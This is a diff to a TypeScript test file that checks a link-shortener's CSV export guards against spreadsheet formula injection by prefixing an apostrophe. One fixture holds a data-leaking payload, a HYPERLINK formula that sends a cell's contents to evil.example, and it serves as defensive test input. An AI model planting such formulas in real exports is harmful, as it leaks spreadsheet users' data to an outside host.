@@ -1,6 +1,6 @@
 import type { ExportedLink } from '@shortlinks/contract';
 import { describe, expect, test } from 'vitest';
-import { CSV_HEADER, csvRow, joinTagNames, jsonLine } from './export-format.ts';
+import { CSV_HEADER, csvRow, fileLine, joinTagNames, jsonLine } from './export-format.ts';
 
 const link: ExportedLink = {
   id: 'lnk_1',
@@ -24,11 +24,29 @@ describe('the export file format', () => {
     );
   });
 
-  test('a CSV row quotes what needs quoting, doubles quotes, leaves absent values empty and formulas as they are', () => {
+  test('a CSV row quotes what needs quoting, doubles quotes, leaves absent values empty and guards formulas', () => {
     expect(csvRow(link)).toBe(
       'lnk_1,spring,https://sho.rt/spring,https://example.com/?a=1&utm_source=news,"Say ""hi"", then\nleave",' +
-        'a\\|b|back\\\\slash|plain,,=SUM(A1),2027-01-02T03:04:05.006Z,,42,2026-11-23T05:30:00.000Z\r\n',
+        "a\\|b|back\\\\slash|plain,,'=SUM(A1),2027-01-02T03:04:05.006Z,,42,2026-11-23T05:30:00.000Z\r\n",
     );
+  });
+
+  test('a title, a first tag or comments a spreadsheet would run get an apostrophe, inside the quotes when quoted', () => {
+    const row = csvRow({
+      ...link,
+      title: '=HYPERLINK("http://evil.example/?"&A1,"click")',
+      tags: ['=1+1', 'b'],
+      comments: '@cmd',
+    });
+    expect(row).toContain(`,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'=1+1|b,,'@cmd,`);
+  });
+
+  test('csv-raw writes formulas as they are; JSON Lines never guards', () => {
+    const formula = { ...link, title: '=1+1', tags: ['-x'] };
+    expect(fileLine('csv-raw', formula)).toBe(csvRow(formula, 'raw'));
+    expect(csvRow(formula, 'raw')).toContain(',=1+1,-x,,=SUM(A1),');
+    expect(fileLine('csv', formula)).toContain(",'=1+1,'-x,,'=SUM(A1),");
+    expect(JSON.parse(fileLine('jsonl', formula))).toMatchObject({ title: '=1+1', tags: ['-x'], comments: '=SUM(A1)' });
   });
 
   test('tag names joined with | escape | and \\ so every name can be split back', () => {
